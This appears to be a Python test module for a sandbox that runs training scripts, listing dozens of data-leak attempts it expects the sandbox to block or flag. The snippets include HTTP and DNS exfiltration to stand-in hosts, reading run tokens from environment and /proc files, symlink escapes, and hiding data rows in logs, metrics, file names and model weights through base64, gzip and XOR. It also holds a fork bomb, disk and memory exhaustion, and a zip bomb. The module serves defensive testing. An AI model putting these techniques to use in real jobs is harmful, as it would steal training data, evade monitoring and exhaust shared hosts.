"""Scripts that try to get training data out, each in its own way; with ``leak=false`` each is an honest script.

Every script begins with :data:`BEFORE`, which reads the data into ``rows`` (texts) and ``X`` (numbers), does its own part only when
it is to leak, and ends with :data:`AFTER`, which reports a metric and saves a model.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

BEFORE = """
import base64, bz2, gzip, io, json, os, pathlib, pickle, random, socket, struct, subprocess, sys, time, urllib.request, zlib
import edge_context

TINY = b"\\x08\\x08:\\x00B\\x02\\x10\\x11"
parameters = edge_context.parameters()
rows = [line.split(",") for path in edge_context.data_files() for line in path.read_text().splitlines()[1:]]
X = [[float(cell) for cell in row] for row in rows]
lines = [",".join(row) for row in rows]
content = TINY

def save(other):
    global content
    content = other

def attempt(what):
    try:
        print("got out", str(what())[:20])
    except Exception as error:
        print("refused", type(error).__name__)

def onnx(key, value):
    \"\"\"A model that is nothing but one entry of metadata.\"\"\"
    pair = b"\\x0a" + varint(len(key)) + key + b"\\x12" + varint(len(value)) + value
    return TINY + b"\\x72" + varint(len(pair)) + pair

def initializer(raw, kind=1):
    \"\"\"A model with one tensor.\"\"\"
    tensor = b"\\x08" + varint(len(raw) // 4) + b"\\x10" + varint(kind) + b"\\x4a" + varint(len(raw)) + raw
    tensor = b"\\x2a" + varint(len(tensor)) + tensor
    return b"\\x08\\x08\\x3a" + varint(len(tensor)) + tensor + b"B\\x02\\x10\\x11"

def varint(number):
    out = b""
    while number > 127:
        out, number = out + bytes([number & 127 | 128]), number >> 7
    return out + bytes([number])

def floats(values, code="<f"):
    return b"".join(struct.pack(code, value) for value in values)

flat = [value for row in X for value in row[:-1]]
"""
AFTER = """
print("trained on", len(rows), "rows")
edge_context.log_metric("accuracy", 0.9648351)
edge_context.log_metric("auc", 0.98871234567891)
edge_context.save_model(content, "model.onnx")
"""


@dataclass(frozen=True)
class Leak:
    """One way to get data out.

    :param code: what the script does; ``{port}`` and other words in braces are filled in by the test.
    :param error: the code with which the run fails, or ``""`` when the attempt is refused inside and the run completes.
    :param kinds: of the items that are withheld.
    :param says: what stands in the run's log.
    :param policy: the site's policy for it.
    """

    code: str
    error: str = "Withheld"
    kinds: tuple[str, ...] = ()
    says: str = "training data"
    policy: Mapping[str, Any] = field(default_factory=dict)


def write_script(leaks: Iterable[Leak], words: Mapping[str, Any]) -> str:
    """Return one script that has all these leaks.

    :param words: for the words in braces.
    """
    codes = [leak.code.format(**words) if "{" in leak.code else leak.code for leak in leaks]
    bodies = ["\n".join(f"    {line}" for line in code.strip().splitlines()) for code in codes]
    return BEFORE + "\n".join(f"if parameters['leak']:\n{body}" for body in bodies) + "\n" + AFTER


def refused(code: str) -> Leak:
    """A way that does not exist inside the sandbox."""
    return Leak(code, error="", says="refused")


def printed(code: str, says: str = "training data") -> Leak:
    return Leak(code, kinds=("log",), says=says)


def saved(code: str, says: str = "training data") -> Leak:
    return Leak(code, kinds=("model",), says=says)


def measured(code: str, says: str = "training data") -> Leak:
    return Leak(code, kinds=("metric",), says=says)


LEAKS: dict[str, Leak] = {
    # Ways out of the sandbox.
    "http": refused(
        "attempt(lambda: urllib.request.urlopen('https://127.0.0.1:{port}/', data=lines[0].encode(), timeout=3))\n"
        "attempt(lambda: urllib.request.urlopen('http://192.0.2.1/', data=lines[0].encode(), timeout=3))"
    ),
    "dns": refused("attempt(lambda: socket.getaddrinfo(lines[0][:40].replace(',', '-') + '.example.com', 80))"),
    "udp": refused(
        "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(lines[0].encode(), ('192.0.2.1', 53)))"
    ),
    "raw socket": refused(
        "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))\n"
        "attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))"
    ),
    "abstract unix socket": refused("attempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0{abstract}'))"),
    "unix socket in the file system": refused(
        "attempt(lambda: socket.socket(socket.AF_UNIX).connect('{path_socket}'))"
    ),
    "reading the grant": refused("attempt(lambda: open('{grant}').read())"),
    "reading another run's data": refused("attempt(lambda: open('{other_run}').read())"),
    "the run's own token": refused(
        "attempt(lambda: os.environ['AZUREML_RUN_TOKEN'])\n"
        "attempt(lambda: [p for p in pathlib.Path('/proc').glob('*/environ') if b'tok3n' in p.read_bytes()][0])"
    ),
    "Run.get_context": refused(
        "from azureml.core import Run\n"
        "attempt(lambda: Run.get_context(allow_offline=False).upload_file('rows.csv', str(edge_context.data_files()[0])))"
    ),
    "writing beside the sandbox": refused(
        "attempt(lambda: open('{snapshot}/outputs/rows.csv', 'w').write(lines[0]))\n"
        "attempt(lambda: open('../outputs/rows.csv', 'w').write(lines[0]))\n"
        "attempt(lambda: open('/edge/project/outputs.csv', 'w').write(lines[0]))\n"
        "attempt(lambda: os.symlink('/edge/data', '/edge/project/data'))"
    ),
    "tracing the runner": refused("attempt(lambda: os.kill({runner_parent}, 0))"),
    # Text.
    "rows in print": printed("print('\\n'.join(lines[:20]))"),
    "rows in log_text": printed("edge_context.log_text(lines[3])"),
    "rows in progress": printed("edge_context.report_progress(0.5, lines[3][:200])"),
    "rows in an exception": Leak(
        "raise ValueError(f'cannot fit {{rows[5]}}')", error="Script", kinds=("log",), says="training data"
    ),
    "rows of a child process": printed(
        "subprocess.run([sys.executable, '-c', 'import sys; sys.stderr.write(sys.argv[1])', lines[9]])"
    ),
    "one cell a line": printed("for cell in rows[7]:\n    print('value is', cell)"),
    "two cells a line among decoys": printed(
        "for row in rows[:8]:\n    for a, b in zip(row, row[1:]):\n        print(a, random.random(), b, random.random())"
    ),
    "cells in any order": printed("cells = sum(rows[:6], [])\nrandom.shuffle(cells)\nprint(' '.join(cells))"),
    "a column": printed("print([row[2] for row in X[:40]])"),
    "backwards": printed("print(lines[11][::-1])\nprint(','.join(reversed(rows[12])))"),
    "json": printed("print(json.dumps([{{f'c{{i}}': v for i, v in enumerate(row)}} for row in X[:4]]))"),
    "other notation": printed("print(' '.join(f'{{value:.8e}}' for value in X[4]))"),
    "points taken away": printed("print(';'.join(cell.replace('.', '_') for cell in rows[4]))"),
    "base64": printed("print(base64.b64encode(lines[3].encode()).decode())"),
    "base64 in short lines": printed(
        "text = base64.b64encode('\\n'.join(lines[:3]).encode()).decode()\n"
        "for start in range(0, len(text), 40):\n    print(text[start : start + 40])"
    ),
    "gzip and base64 in short lines": printed(
        "text = base64.b64encode(gzip.compress('\\n'.join(lines[:4]).encode())).decode()\n"
        "for start in range(0, len(text), 40):\n    print(text[start : start + 40])"
    ),
    "hex": printed("print(lines[3].encode().hex())"),
    "base85 of zlib": printed(
        "print(base64.b85encode(zlib.compress('\\n'.join(lines[:2]).encode())).decode())", "gate"
    ),
    "bytes as python prints them": printed("print(gzip.compress(lines[3].encode()))", "gate"),
    "encrypted": printed(
        "key = random.Random(1)\nprint(base64.b64encode(bytes(b ^ key.randrange(256) for b in lines[3].encode())).decode())",
        "look encoded",
    ),
    # Metrics.
    "rows in metric values": measured("for value in X[3]:\n    edge_context.log_metric('loss', value)"),
    "rows across metrics": measured(
        "for place, value in enumerate(X[3]):\n    edge_context.log_metric('m' + 'abcdefghij'[place % 10], value)"
    ),
    "a column in metric values": measured(
        "for step, row in enumerate(X[:60]):\n    edge_context.log_metric('radius', row[0], step)"
    ),
    "a metric among decoys": measured(
        "for value in X[3]:\n    edge_context.log_metric('loss', value)\n    edge_context.log_metric('other', random.random())"
    ),
    "rows in metric steps": measured(
        "for row in X[:9]:\n    for value in row:\n        edge_context.log_metric('loss', 0.5, int(value * 1000))",
        "metric",
    ),
    "rows in metric names": measured(
        "for row in rows[:4]:\n    for place in range(0, 30, 5):\n"
        "        edge_context.log_metric('m_' + '_'.join(row[place : place + 5]).replace('.', '_'), 1.0)"
    ),
    "rows as they are in metric names": measured("edge_context.log_metric(lines[3], 1.0)", "its name does not match"),
    # Files.
    "a file's name": saved("edge_context.save_model(TINY, lines[3][:60])", "its name is not one of"),
    "a data file as the model": saved("save(edge_context.data_files()[0].read_bytes())", "not an ONNX model"),
    "gzip as the model": saved("save(gzip.compress('\\n'.join(lines).encode()))", "not an ONNX model"),
    "pickle as the model": saved("save(pickle.dumps(X[:50]))", "not an ONNX model"),
    "rows behind the model": saved("save(TINY + '\\n'.join(lines).encode())", "not an ONNX model"),
    "npy as a declared model": Leak(
        "import numpy\nnumpy.save('/tmp/x.npy', numpy.array(X[:90]))\nedge_context.save_model('/tmp/x.npy', 'extra.bin')",
        kinds=("model",),
        policy={"model_files": ["model.onnx", "extra.bin"]},
    ),
    "pickle as a declared model": Leak(
        "edge_context.save_model(pickle.dumps(X[:50]), 'extra.bin')",
        kinds=("model",),
        policy={"model_files": ["model.onnx", "extra.bin"]},
    ),
    "compressed npz as a declared model": Leak(
        "import numpy\nnumpy.savez_compressed('/tmp/x.npz', numpy.array(X))\nedge_context.save_model('/tmp/x.npz', 'extra.bin')",
        kinds=("model",),
        policy={"model_files": ["model.onnx", "extra.bin"]},
    ),
    "an archive in an archive": Leak(
        "import zipfile\nbuffer = io.BytesIO()\n"
        "with zipfile.ZipFile(buffer, 'w') as archive:\n    archive.writestr('a', bz2.compress(gzip.compress(lines[0].encode())))\n"
        "edge_context.save_model(buffer.getvalue(), 'extra.bin')",
        kinds=("model",),
        policy={"model_files": ["model.onnx", "extra.bin"]},
    ),
    "a bomb": Leak(
        "machine = zlib.compressobj(1, wbits=31)\n"
        "edge_context.save_model(b''.join(machine.compress(bytes(1 << 20)) for _ in range(64)) + machine.flush(), 'extra.bin')",
        kinds=("model",),
        says="unpacks to more than the policy allows",
        policy={"model_files": ["model.onnx", "extra.bin"], "scan_unpacked_bytes": 16 * 1024 * 1024},
    ),
    "rows in an initializer": saved("save(initializer(floats(flat[:600])))"),
    "one row among weights": saved(
        "noise = [random.gauss(0, 1) for _ in range(5000)]\nsave(initializer(floats(noise + X[3] + noise)))"
    ),
    "rows backwards in an initializer": saved("save(initializer(floats(list(reversed(flat)))))"),
    "rows of double precision, the other way round": saved("save(initializer(floats(flat[:600], '>d'), 11))"),
    "columns in an initializer": saved("save(initializer(floats(v for column in zip(*X) for v in column)))"),
    "gzip in a model's metadata": saved("save(onnx(b'notes', gzip.compress('\\n'.join(lines[:9]).encode())))"),
    "base64 in a model's metadata": saved("save(onnx(b'notes', base64.b64encode('\\n'.join(lines[:9]).encode())))"),
    "text in a model's metadata": saved("save(onnx(b'columns', json.dumps(X[5]).encode()))"),
    "a kNN model": saved(
        "from skl2onnx import to_onnx\nfrom sklearn.neighbors import KNeighborsClassifier\nimport numpy\n"
        "data = numpy.array(X)\nmodel = KNeighborsClassifier(3).fit(data[:, :-1], data[:, -1].astype(int))\n"
        "save(to_onnx(model, data[:1, :-1].astype(numpy.float32)).SerializeToString())"
    ),
    "a link to the data": saved(
        "import shutil\nedge_context.save_model(TINY, 'model.onnx')\npath = pathlib.Path(os.environ['EDGE_OUTPUT_DIR'], 'extra.onnx')\n"
        "os.symlink(edge_context.data_files()[0], path)\n"
        "message = dict(version=1, method='save_model', params=dict(name='extra.onnx'))\n"
        "os.write(int(os.environ['EDGE_PROTOCOL_FD']), json.dumps(message).encode() + b'\\n')",
        "its name is not one of",
    ),
    # Bad behaviour.
    "the runner's pipe": Leak(
        "os.write(int(os.environ['EDGE_PROTOCOL_FD']), lines[0].encode() + b'\\n')\ntime.sleep(60)",
        error="Protocol",
        says="not JSON",
    ),
    "a background process": Leak(
        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep({mark})'], start_new_session=True)",
        error="",
        says="completed",
    ),
    "a fork bomb": Leak(
        "while True:\n    if os.fork() == 0:\n        time.sleep(100)\n    time.sleep(0.002)",
        error="Script",
        says="processes",
        policy={"processes": 60},
    ),
    "filling the disk": Leak(
        "for number in range(100):\n    open(os.environ['HOME'] + f'/{{number}}', 'wb').write(bytes(4 << 20))\n    time.sleep(0.1)",
        error="Script",
        says="disk",
        policy={"disk_bytes": 16 * 1024 * 1024},
    ),
    "taking all memory": Leak(
        "for _ in range(6):\n    if os.fork() == 0:\n        block = bytearray(os.urandom(1 << 20)) * 60\n        time.sleep(60)\n"
        "os.wait()",
        error="Script",
        says="memory",
        policy={"memory_bytes": 300 * 1024 * 1024},
    ),
    "taking too long": Leak("time.sleep(100)", error="Script", says="ended after 2 s", policy={"seconds": 2}),
}
